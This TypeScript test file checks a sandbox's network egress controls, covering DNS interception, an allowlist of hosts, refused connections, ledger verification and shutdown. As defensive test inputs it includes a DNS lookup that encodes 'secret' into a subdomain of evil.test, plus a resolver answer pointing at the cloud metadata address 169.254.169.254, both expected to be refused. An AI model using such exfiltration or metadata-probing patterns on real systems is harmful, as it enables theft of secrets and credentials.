/** The way out as a whole, as far as it goes without an internet: sockets taken over, one head, everything closed. */
import { createSocket, type Socket as DatagramSocket } from "node:dgram";
import { Resolver } from "node:dns/promises";
import { once } from "node:events";
import { type AddressInfo, connect, createServer, type Server } from "node:net";
import { parseLedger, verifyLedger } from "@blindbox/attestation";
import type { Egress } from "@blindbox/manifest";
import { afterEach, describe, expect, test } from "vitest";
import { createEgress } from "../src/egress/index.ts";
import { createReception } from "../src/egress/reception.ts";
import type { BoxEvent, EgressRoom } from "../src/parts.ts";
import { recordingLedger } from "./fixtures-egress/ledger.ts";
import { startNameServer } from "./fixtures-egress/name-server.ts";

const request = { methods: "any", paths: "any" } as const;
const egress: readonly Egress[] = [
  { mode: "verified", host: "api.example.com", ports: [443], ...request, websocket: false, pins: [], roots: null },
  { mode: "tcp", host: "*.wild.test", ports: [5432], trusts: "network" },
];

let room: EgressRoom | null = null;
afterEach(() => room?.close());

async function open(rules: readonly Egress[] = egress, resolver = "127.0.0.1:1") {
  const events: BoxEvent[] = [];
  const made = await createEgress({
    manifest: { egress: rules },
    resolvers: [resolver],
    now: Date.now,
    monotonic: () => performance.now(),
    onEvent: (event) => events.push(event),
  });
  room = made;
  return { made, events };
}

async function sockets(): Promise<{ listener: Server; dnsListener: Server; dnsSocket: DatagramSocket }> {
  const listener = createServer({ pauseOnConnect: true }).listen(0, "127.0.0.1");
  const dnsListener = createServer({ pauseOnConnect: true }).listen(0, "127.0.0.1");
  const dnsSocket = createSocket("udp4").bind(0, "127.0.0.1");
  await Promise.all([listener, dnsListener, dnsSocket].map((socket) => once(socket, "listening")));
  return { listener, dnsListener, dnsSocket };
}

const portOf = (socket: Server | DatagramSocket): number => (socket.address() as AddressInfo).port;

describe("the way out", () => {
  test("has an authority where a rule is verified, and none where none is", async () => {
    expect((await open()).made.authority).toMatch(/^-----BEGIN CERTIFICATE-----/);
    await room?.close();
    expect((await open(egress.slice(1))).made.authority).toBeNull();
    await room?.close();
    expect((await open([])).made.authority).toBeNull();
  });

  test("serves what it is given, again and again, with the same addresses and one ledger", async () => {
    const { made } = await open();
    for (const expected of ["198.18.0.2", "198.18.0.2"]) {
      const { listener, dnsListener, dnsSocket } = await sockets();
      made.receiver.listener(listener);
      made.receiver.dnsListener(dnsListener);
      made.receiver.dnsSocket(dnsSocket);
      const resolver = new Resolver({ tries: 1 });
      resolver.setServers([`127.0.0.1:${portOf(dnsSocket)}`]);
      expect(await resolver.resolve4("api.example.com")).toEqual(["198.18.0.1"]);
      expect(await resolver.resolve4("one.wild.test")).toEqual([expected]);
      const app = connect(portOf(listener), "127.0.0.1");
      await once(app, "error");
      for (const socket of [listener, dnsListener, dnsSocket]) socket.close();
    }
    const head = made.ledgerHead();
    const document = parseLedger(made.ledger());
    expect(document.records.map(({ verdict }) => verdict)).toEqual([
      "name-assigned",
      "refused-address",
      "refused-address",
    ]);
    expect(await verifyLedger(document, head)).toEqual([]);
  });

  test("says one thing to the log, and nothing of what the application does", async () => {
    const { made, events } = await open();
    const { listener, dnsListener, dnsSocket } = await sockets();
    made.receiver.listener(listener);
    made.receiver.dnsListener(dnsListener);
    made.receiver.dnsSocket(dnsSocket);
    const resolver = new Resolver({ tries: 1 });
    resolver.setServers([`127.0.0.1:${portOf(dnsSocket)}`]);
    await resolver.resolve4("c2VjcmV0.evil.test").catch(() => {});
    await once(connect(portOf(listener), "127.0.0.1"), "error");
    expect(events).toEqual([{ event: "egress", rules: 2, verified: true }]);
  });

  test("closes what it was given, what is open, and what comes later", async () => {
    const { made } = await open();
    const { listener, dnsListener, dnsSocket } = await sockets();
    made.receiver.listener(listener);
    made.receiver.dnsListener(dnsListener);
    made.receiver.dnsSocket(dnsSocket);
    const asking = connect(portOf(dnsListener), "127.0.0.1").on("error", () => {});
    await once(dnsListener, "connection");
    const ended = once(asking, "close");
    await made.close();
    await ended;
    expect([listener.listening, dnsListener.listening]).toEqual([false, false]);
    expect(() => dnsSocket.address()).toThrow();
    const late = await sockets();
    made.receiver.listener(late.listener);
    expect(late.listener.listening).toBe(false);
    late.dnsListener.close();
    late.dnsSocket.close();
    await made.close();
  });

  test("ends the application's connections when it is closed", async () => {
    const ended: string[] = [];
    const router = { serve: () => {}, close: () => void ended.push("router") };
    const ledger = recordingLedger();
    const reception = createReception({ router, answer: () => null, ledger });
    await reception.close();
    expect(ended).toEqual(["router"]);
  });

  test("closes after the sandbox has closed the sockets itself", async () => {
    const { made } = await open();
    const { listener, dnsListener, dnsSocket } = await sockets();
    made.receiver.listener(listener);
    made.receiver.dnsListener(dnsListener);
    made.receiver.dnsSocket(dnsSocket);
    for (const socket of [listener, dnsListener, dnsSocket]) socket.close();
    await made.close();
  });

  test("takes the box's own request no further than the application's: by the rules, to public addresses", async () => {
    const names = await startNameServer();
    names.answers = { "api.example.com": { a: ["127.0.0.1", "169.254.169.254"] } };
    const { made, events } = await open(egress, names.server);
    await expect(made.readKeys("https://api.example.com/keys")).rejects.toMatchObject({
      code: "refused-address-not-public",
    });
    await expect(made.readKeys("https://evil.test/keys")).rejects.toMatchObject({ code: "refused-name" });
    await expect(made.readKeys("https://one.wild.test:5432/keys")).rejects.toMatchObject({ code: "refused-no-tls" });
    expect(new Set(names.asked)).toEqual(new Set(["A api.example.com", "AAAA api.example.com"]));
    const head = made.ledgerHead();
    const document = parseLedger(made.ledger());
    expect(document.records.map(({ verdict, rule }) => [verdict, rule])).toEqual([
      ["keys-requested", 0],
      ["refused-address-not-public", 0],
      ["refused-name", null],
      ["refused-no-tls", 1],
    ]);
    expect(await verifyLedger(document, head)).toEqual([]);
    expect(events).toHaveLength(1);
    await names.close();
  });

  test("is not made with resolvers that are no addresses", async () => {
    const manifest = { egress };
    const options = { manifest, now: Date.now, monotonic: () => 0, onEvent: () => {} };
    await expect(createEgress({ ...options, resolvers: ["dns.example"] })).rejects.toThrow(TypeError);
  });
});
